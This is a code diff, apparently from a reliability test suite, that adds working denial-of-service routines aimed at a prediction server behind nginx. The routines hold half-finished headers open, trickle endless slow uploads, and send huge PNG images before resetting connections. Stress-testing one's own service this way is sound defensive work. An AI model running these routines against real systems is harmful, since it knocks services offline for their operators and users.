@@ -7,10 +7,14 @@ from __future__ import annotations
 
 import contextlib
 import http.client
+import resource
+import socket
+import struct
 import sys
 import threading
 import time
 import zlib
+from collections import deque
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from urllib.parse import urlsplit
@@ -138,5 +142,80 @@ def _send(
     connection.getresponse().read()
 
 
+HALF_HEADERS = 8400
+UPLOADS = 32
+UPLOAD_BYTES = 20_000_000
+
+
+def head_of(url: str, length: int) -> bytes:
+    """Returns the header of a prediction request."""
+    path = urlsplit(url).path
+    return (
+        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode()
+    )
+
+
+def connect(url: str) -> socket.socket:
+    """Opens a connection from the attackers' address."""
+    parts = urlsplit(url)
+    return socket.create_connection(
+        (parts.hostname, parts.port), TIMEOUT_S, source_address=ADDRESS
+    )
+
+
+def send_and_leave(url: str, times: int) -> None:
+    """Sends a PNG of 50 million pixels on each of two connections at a time, and resets them."""
+    body = png(7071, 7071, 8, PALETTE, 8, False)
+    head = head_of(url, len(body))
+    for _ in range(times // 2):
+        pair = [connect(url), connect(url)]
+        for connection in pair:
+            connection.sendall(head + body)
+        time.sleep(0.02)  # until nginx has read the body
+        for connection in pair:
+            reset = struct.pack("ii", 1, 0)
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
+            connection.close()
+
+
+def send_half_headers(url: str) -> None:
+    """Keeps connections open whose header never ends; opens each again before it times out."""
+    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
+    held: deque[socket.socket] = deque()
+    while True:
+        for _ in range(HALF_HEADERS):
+            with contextlib.suppress(OSError):
+                held.append(connect(url))
+                held[-1].sendall(b"POST /predictions/x HTTP/1.1\r\nHost:")
+            if len(held) > HALF_HEADERS:
+                held.popleft().close()
+        print("begun", flush=True)
+        time.sleep(3)
+
+
+def upload_for_ever(url: str) -> None:
+    """Uploads all but 2 kB of large bodies, and then a byte every five seconds."""
+    head = head_of(url, UPLOAD_BYTES)
+
+    def upload() -> None:
+        while True:
+            with contextlib.suppress(OSError), connect(url) as connection:
+                connection.sendall(head + bytes(UPLOAD_BYTES - 2000))
+                while True:
+                    time.sleep(5)
+                    connection.sendall(b".")
+            time.sleep(0.5)
+
+    for _ in range(UPLOADS):
+        threading.Thread(target=upload, daemon=True).start()
+    time.sleep(5)
+    print("begun", flush=True)
+    time.sleep(3600)
+
+
+# They last until the process is ended; `attacking` of tests/reliability starts them by name.
+HELD = {"half headers": send_half_headers, "endless uploads": upload_for_ever}
+
 if __name__ == "__main__":
-    attack(*sys.argv[1:])
+    HELD.get(sys.argv[2], lambda url: attack(url, sys.argv[2]))(sys.argv[1])
